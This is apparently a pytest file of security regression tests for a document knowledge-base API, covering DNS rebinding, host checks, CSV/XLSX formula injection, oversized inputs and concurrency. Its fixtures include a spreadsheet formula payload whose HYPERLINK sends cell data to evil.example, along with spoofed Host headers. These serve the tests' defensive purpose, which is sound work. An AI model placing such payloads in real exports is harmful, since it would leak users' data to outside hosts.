"""Hostile clients and unlucky operators (issue 13): each test failed before its fix."""

from __future__ import annotations

import asyncio
import csv
import io
import threading
import time
from pathlib import Path

import httpx
import pytest
from test_api import assert_problem, make_client, populate

from api.http.app import create_app
from ingest.records import Item, Tag

BASE = "http://127.0.0.1:8000"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+41", "+cmd", "-2+3", "@SUM(A1)"]


@pytest.fixture
def stocked(kb, tmp_path: Path) -> dict[str, str]:
    return populate(kb, tmp_path)


def test_dns_rebinding_writes_are_refused_on_a_keyless_server(kb, stocked) -> None:  # type: ignore[no-untyped-def]
    doc = stocked["ilo-mali-2023.pdf"]
    with make_client(kb) as client:
        foreign = {"Host": "evil.example:18701", "Origin": "http://evil.example:18701"}
        assert_problem(client.delete(f"/documents/{doc}", headers=foreign), 403, "host")
        no_origin = {"Host": "evil.example:18701"}
        assert_problem(client.delete(f"/documents/{doc}", headers=no_origin), 403, "host")
        upload = client.post("/documents", files={"file": ("a.md", b"# T\n")}, headers=foreign)
        assert_problem(upload, 403, "host")
        assert client.get(f"/documents/{doc}").status_code == 200  # still there
        for host in ("127.0.0.1:8000", "localhost:8000", "[::1]:8000"):
            local = {"Host": host, "Origin": f"http://{host}"}
            response = client.get("/health", headers=local)
            assert response.status_code == 200, (host, response.text)
        ok = client.delete(
            f"/documents/{doc}",
            headers={"Host": "localhost:8000", "Origin": "http://localhost:8000"},
        )
        assert ok.status_code == 200, ok.text


def test_a_listed_proxy_name_is_served(kb, stocked) -> None:  # type: ignore[no-untyped-def]
    with make_client(kb, allowed_hosts="kb.example.org") as client:
        assert client.get("/health", headers={"Host": "kb.example.org"}).status_code == 200
        assert_problem(client.get("/health", headers={"Host": "evil.example"}), 403, "host")


def test_keys_decide_when_keys_are_set(kb, stocked) -> None:  # type: ignore[no-untyped-def]
    doc = stocked["ilo-mali-2023.pdf"]
    with make_client(kb, peer=("198.51.100.7", 4000), api_keys="s3cret") as client:
        headers = {"Host": "kb.example.org", "X-API-Key": "s3cret"}
        assert client.delete(f"/documents/{doc}", headers=headers).status_code == 200


def _hostile_items(kb, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from api.reads import Reader

    items = [
        Item(
            f"i{n}",
            "d" * 64,
            "recommendation",
            text,
            (1,),
            ("Recs",),
            label=text,
            addressee=text,
            tags=(Tag("theme", text, text),),
        )
        for n, text in enumerate(HOSTILE)
    ]
    monkeypatch.setattr(Reader, "items", lambda self, *a, **k: items)
    monkeypatch.setattr(Reader, "file_names", lambda self: {"d" * 64: "=evil().pdf"})


def test_xlsx_export_has_no_formula_cells(kb, stocked, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    _hostile_items(kb, monkeypatch)
    with make_client(kb) as client:
        data = client.get("/export/items?format=xlsx").content
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    texts = {str(c.value) for c in cells if c.value is not None}
    assert set(HOSTILE) <= texts  # the text itself survives, as text


def test_csv_export_neutralises_formula_cells(kb, stocked, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    _hostile_items(kb, monkeypatch)
    with make_client(kb) as client:
        text = client.get("/export/items?format=csv").content.decode("utf-8-sig")
        jsonl = client.get("/export/items?format=jsonl").text
    rows = list(csv.reader(io.StringIO(text)))[1:]
    cells = [c for row in rows for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert "'=1+41" in cells
    assert '"text": "=1+41"' in jsonl  # JSON lines carry the data untouched


@pytest.mark.parametrize(
    "query",
    [
        "/items?offset=9223372036854775808",
        "/items?offset=1e309",
        "/items?offset=99999999999999999999",
        "/items?limit=-1",
        "/search?q=x&offset=99999999999999999999",
        "/search?q=x&year_from=99999999999999999999",
        "/items/abc/similar?k=9223372036854775808",
    ],
)
def test_out_of_range_numbers_answer_422(client_factory, query: str) -> None:  # type: ignore[no-untyped-def]
    with client_factory() as client:
        assert_problem(client.get(query), 422)


@pytest.fixture
def client_factory(kb, stocked):  # type: ignore[no-untyped-def]
    return lambda: make_client(kb)


@pytest.mark.parametrize("name", ["document", "country", "addressee", "theme", "organisation"])
def test_huge_filter_values_answer_422_and_the_connection_survives(
    client_factory, name: str
) -> None:  # type: ignore[no-untyped-def]
    with client_factory() as client:
        route = "/search?q=x&" if name in ("country", "organisation") else "/items?"
        assert_problem(client.get(f"{route}{name}={'%25_' * 6000}"), 422)
        assert client.get("/health").status_code == 200


def test_deletes_need_a_full_id_a_long_prefix_or_an_exact_name(kb, stocked, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    doc = stocked["cisp-kafamuya-2024.pdf"]
    with make_client(kb) as client:
        for ref in ("c", "cisp", doc[:4], doc[:7]):
            response = client.delete(f"/documents/{ref}")
            assert response.status_code in (404, 422), (ref, response.text)
        assert client.get(f"/documents/{doc}").status_code == 200
        assert client.delete(f"/documents/{doc[:8]}").status_code == 200
        other = stocked["ilo-mali-2023.pdf"]
        assert client.delete("/documents/ilo-mali-2023.pdf").json()["deleted"] == other
    from api.cli import main
    from api.settings import get_settings

    monkeypatch.setenv("EVALKB_HOME", str(kb.home))
    get_settings.cache_clear()
    try:
        assert main(["delete", "c"]) == 2
    finally:
        get_settings.cache_clear()


def test_page_sends_csp_and_frame_options(kb) -> None:  # type: ignore[no-untyped-def]
    with make_client(kb) as client:
        page = client.get("/")
        assert "default-src 'self'" in page.headers["content-security-policy"]
        assert page.headers["x-frame-options"] == "DENY"
        assert client.get("/health").headers["x-content-type-options"] == "nosniff"


def test_search_and_items_resolve_a_document_the_same_way(kb, stocked) -> None:  # type: ignore[no-untyped-def]
    with make_client(kb) as client:
        items = client.get("/items", params={"document": "ilo"}).json()["items"]
        hits = client.get(
            "/search", params={"q": "juges dialogue", "document": "ilo", "mode": "lexical"}
        ).json()["hits"]
    assert items and hits
    assert {i["document_id"] for i in items} == {h["document_id"] for h in hits}


def test_api_reupload_of_a_new_version_replaces_the_old_one(kb, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    v1 = b"# Rapport\n\n## Recommandations\n\n- Renforcer la coordination des acteurs.\n"
    v2 = v1 + b"- Former les juges.\n"
    with make_client(kb) as client:
        first = client.post("/documents", files={"file": ("rapport.md", v1)}).json()
        client.app.state.uploads.wait_idle()  # type: ignore[attr-defined]
        second = client.post("/documents", files={"file": ("rapport.md", v2)}).json()
        client.app.state.uploads.wait_idle()  # type: ignore[attr-defined]
        done = client.get(second["url"]).json()
        old = client.get(first["url"]).json()["document_id"]
        assert done["status"] == "done" and done["replaced"] == [old], done
        docs = client.get("/documents").json()
        assert [d["file_name"] for d in docs] == ["rapport.md"]
        assert client.get("/documents/rapport.md").status_code == 200  # not "ambiguous"


def test_one_slow_upload_holds_up_no_other(kb, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """A file that takes minutes (a long OCR) must not queue every upload behind it."""
    release = threading.Event()
    real_ingest = kb.ingest

    def ingest(paths, **kwargs):  # type: ignore[no-untyped-def]
        if any("slow" in Path(p).name for p in paths):
            release.wait(30)
        return real_ingest(paths, **kwargs)

    monkeypatch.setattr(kb, "settings", kb.settings.model_copy(update={"jobs": 2}))
    monkeypatch.setattr(kb, "ingest", ingest)
    fast = b"# Rapport\n\n## Recommandations\n\n- Renforcer la coordination des acteurs.\n"
    try:
        with make_client(kb) as client:
            client.post("/documents", files={"file": ("slow.md", fast + b"- Autre.\n")})
            job = client.post("/documents", files={"file": ("fast.md", fast)}).json()
            deadline = time.monotonic() + 20
            while client.get(job["url"]).json()["status"] != "done":
                assert time.monotonic() < deadline, "the fast upload waited for the slow one"
                time.sleep(0.05)
            release.set()
            client.app.state.uploads.wait_idle()  # type: ignore[attr-defined]
            assert {d["file_name"] for d in client.get("/documents").json()} == {
                "slow.md",
                "fast.md",
            }
    finally:
        release.set()


def test_queued_searches_leave_threads_for_cheap_reads(kb, stocked, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """Searches waiting for a CPU slot must not take the thread pool: with 50 clients
    searching, /items and /health still answer (before: all 40 threads waited on the slot)."""
    release = threading.Event()
    monkeypatch.setattr(kb, "settings", kb.settings.model_copy(update={"search_slots": 1}))
    monkeypatch.setattr("api.reads.Reader.search", lambda self, request: release.wait(30) and [])
    app = create_app(kb)
    transport = httpx.ASGITransport(app=app, client=("127.0.0.1", 50000))

    async def scenario() -> None:
        async with (
            app.router.lifespan_context(app),
            httpx.AsyncClient(transport=transport, base_url=BASE) as client,
        ):
            searches = [
                asyncio.create_task(client.get("/search", params={"q": f"juges {i}"}))
                for i in range(50)
            ]
            await asyncio.sleep(0.5)  # every search has reached its slot or waits for it
            items = await asyncio.wait_for(client.get("/items?limit=5"), timeout=10)
            health = await asyncio.wait_for(client.get("/health"), timeout=10)
            release.set()
            answers = await asyncio.gather(*searches)
        assert items.status_code == 200 and health.status_code == 200
        assert {a.status_code for a in answers} == {200}

    try:
        asyncio.run(scenario())
    finally:
        release.set()
